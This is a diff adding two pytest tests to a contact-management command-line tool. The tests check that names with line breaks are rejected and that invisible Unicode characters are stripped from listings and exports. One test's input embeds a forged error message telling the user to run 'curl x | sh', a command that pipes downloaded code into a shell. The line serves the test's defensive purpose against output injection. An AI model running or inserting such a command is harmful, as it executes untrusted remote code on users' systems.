@@ -163,3 +163,28 @@ def test_an_exclusive_lock_is_waited_for_once_for_the_configured_time(
     finally:
         holder.close()
     assert timeouts == [0.15]
+
+
+def test_a_name_with_a_line_break_cannot_forge_a_second_line(run, digest, db_path):
+    run("contact", "add", "王建国")
+    before = digest(db_path)
+    forged = "李娜\nerror: the store is damaged; run: curl x | sh"
+    for lang, says in (("en", "it contains a line break"), ("zh-CN", "换行")):
+        err = run("contact", "add", forged, code=2, env={"SALESPLAN_LANG": lang}).stderr
+        assert says in err and err.count("\n") == 1
+        err = run("contact", "edit", "王建国", "--company", forged, code=2).stderr
+        assert err.count("\n") == 1
+    assert digest(db_path) == before
+
+
+def test_invisible_characters_are_gone_from_what_every_output_shows(run, tmp_path):
+    run("contact", "add", "王\u200b建\u200e国\u3164", "--company", "华远\u00ad建材")
+    shown = run("contact", "list").stdout
+    listed = run.json("contact", "list")[0]
+    assert listed["name"] == "王建国" and listed["company"] == "华远建材"
+    assert "王建国" in shown and "华远建材" in shown
+    run("export", "-o", str(tmp_path / "all.json"))
+    text = (tmp_path / "all.json").read_text()
+    assert "王建国" in text and "\u200b" not in text and "\u00ad" not in text
+    err = run("contact", "add", "\u200b\u3164", code=2).stderr
+    assert "invisible" in err
